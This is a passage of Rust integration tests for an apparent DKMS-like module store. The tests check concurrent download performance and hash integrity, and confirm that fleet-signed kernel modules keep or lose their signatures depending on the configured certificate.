    let hash = |path: &String| host::sha256(&files[path]);
    first.write_script(
        "/tmp/client",
        &format!(
            "#!/bin/bash\nfetch() {{ curl -q -sS --fail --globoff --max-time 60 --speed-limit 16384 --speed-time 5 {url}/$1 | sha256sum; }}\n\
             begin=${{EPOCHREALTIME/./}}\nread -r one _ < <(fetch {manifest}); read -r two _ < <(fetch {object})\n\
             [ \"$one $two\" = '{} {}' ] && echo $((${{EPOCHREALTIME/./}} - begin)) || echo failed\n",
            hash(manifest),
            hash(object)
        ),
    );
    let command =
        format!("dkms autoinstall -k {kernel} >/tmp/said 2>&1; echo $? >/tmp/new; mv /tmp/new /tmp/code");
    for machine in &machines {
        machine.start(&command);
    }
    let clients = first.run_within(
        120,
        &format!("for n in $(seq {CLIENTS}); do /tmp/client & done >/tmp/times 2>/tmp/errors; wait; sort -n /tmp/times"),
    );
    let mut times: Vec<u64> = clients.ok().stdout.lines().filter_map(|line| line.parse().ok()).collect();
    times.sort_unstable();
    assert_eq!(times.len(), CLIENTS, "{}", first.read("/tmp/errors"));
    for machine in &machines {
        machine.run_within(300, "until [ -e /tmp/code ]; do sleep 0.1; done").ok();
        let told = machine.read("/tmp/said");
        assert_eq!(
            (machine.read("/tmp/code").trim(), told.matches("(from the store)").count()),
            ("0", 2),
            "{told}"
        );
        assert_eq!(unsigned(machine, &kernel), unsigned(&first, &kernel));
    }
    let log = first.read("/tmp/access.log");
    let statuses = log.lines().filter(|line| line.contains("\" 200 ")).count();
    assert!(statuses >= 2 * CLIENTS + 4 * machines.len() && statuses == log.lines().count(), "{statuses}");
    let seconds = |share: usize| times[(CLIENTS - 1) * share / 100] as f64 / 1e6;
    eprintln!(
        "{CLIENTS} clients at once, {statuses} answers: half within {:.2} s, 95 % within {:.2} s, all within {:.2} s",
        seconds(50),
        seconds(95),
        seconds(100)
    );
}

/// The certificate that all machines have enrolled: modules from the store keep its signature, and nothing else does.
#[test]
fn modules_that_the_fleets_key_has_signed() {
    let (layer, kernel) = quick_machines();
    let first = Root::on(&layer);
    let signed_by = |root: &Root, path: &str| {
        let policy = root.read("/etc/dkms/policy.toml");
        root.write("/etc/dkms/policy.toml", format!("{policy}signed_by = \"{path}\"\n"));
    };
    first.write("/etc/dkms/policy.toml", "[store]\n");
    signed_by(&first, "/var/lib/dkms/mok.pub");
    let files = fill(&first, &kernel);
    let (public, certificate) =
        (first.read("/etc/dkms/store.pub"), first.read_bytes("/var/lib/dkms/mok.pub"));
    first.run("dkms store verify /srv/store").ok().says(&["2 builds, 0 problems"]);
    // The bytes of each installed module without compression.
    let plain = |root: &Root| {
        let all = kernel.module_files(root).into_iter().map(|(path, _)| {
            root.run(&format!("xz -dc {path} >/tmp/plain.ko")).ok();
            let content = root.read_bytes("/tmp/plain.ko");
            let marks = content.windows(28).filter(|window| *window == b"~Module signature appended~\n");
            assert_eq!(marks.count(), 1, "{path} has one signature");
            (path, host::sha256(&content))
        });
        all.collect::<BTreeMap<_, _>>()
    };
    let fleet = plain(&first);
    let machine = || {
        let root = Root::on(&layer);
        write(&root, &files);
        trust(&root, "file:///srv/store", &public);
        root.write("/etc/dkms/fleet.der", &certificate);
        root
    };

    let second = machine();
    signed_by(&second, "/etc/dkms/fleet.der");
    let counters = Counters::install(&second);
    autoinstall(&second, &kernel).says(&["(from the store)"]);
    assert_eq!(plain(&second), fleet, "the same signatures");
    second
        .run(&format!("dkms check -k {kernel} --secure-boot on --enrolled /etc/dkms/fleet.der"))
        .ok()
        .says(&["would load: signed by"]);
    // Nothing is left to do, also when the kernel comes back, or after a forced build.
    let before = second.run("dkms status --json").ok().stdout;
    autoinstall(&second, &kernel).never_says(&["dkms: one", "store"]);
    second.run("rm -r /srv/store").ok();
    second.run(&format!("/etc/kernel/prerm.d/dkms {kernel} && /etc/kernel/postinst.d/dkms {kernel}")).ok();
    assert_eq!((plain(&second), second.run("dkms status --json").ok().stdout), (fleet.clone(), before));
    assert_eq!((counters.take().builds, second.exists("/srv/store")), (0, false));
    second
        .run(&format!("dkms build one/1.0 -k {kernel} --force && dkms install one/1.0 -k {kernel} --force"))
        .ok();
    let mixed = plain(&second);
    let (one, two) = ("one.ko.xz", "two.ko.xz");
    let of = |all: &BTreeMap<String, String>, name: &str| {
        all.iter().find(|(path, _)| path.ends_with(name)).unwrap().1.clone()
    };
    assert!(
        of(&mixed, one) != of(&fleet, one) && of(&mixed, two) == of(&fleet, two),
        "built here, signed here"
    );
    autoinstall(&second, &kernel);
    assert_eq!((plain(&second), counters.take().builds), (mixed, 1));

    // Another certificate, none, and no such setting: signed here.
    let modules = unsigned(&first, &kernel);
    for (path, says) in
        [("/etc/dkms/other.der", None), ("/etc/dkms/missing.der", Some("missing.der")), ("", None)]
    {
        let root = machine();
        if !path.is_empty() {
            signed_by(&root, path);
        }
        root.run("openssl req -x509 -newkey rsa:2048 -nodes -keyout /dev/null -subj /CN=other -days 9 -outform DER -out /etc/dkms/other.der 2>/dev/null").ok();
        let told = autoinstall(&root, &kernel).says(&["(from the store)"]);
        assert_eq!(says.is_some(), told.all().contains("own key: reading certificate"), "{told}");
        let own = plain(&root);
        assert!(own.iter().all(|(path, hash)| fleet[path] != *hash), "signed here");
        assert_eq!(unsigned(&root, &kernel), modules);
        root.run(&format!("dkms check -k {kernel} --secure-boot on --enrolled /var/lib/dkms/mok.pub")).ok();
        let counters = Counters::install(&root);
        autoinstall(&root, &kernel);
        assert_eq!((plain(&root), counters.take().builds), (own, 0));
    }
}
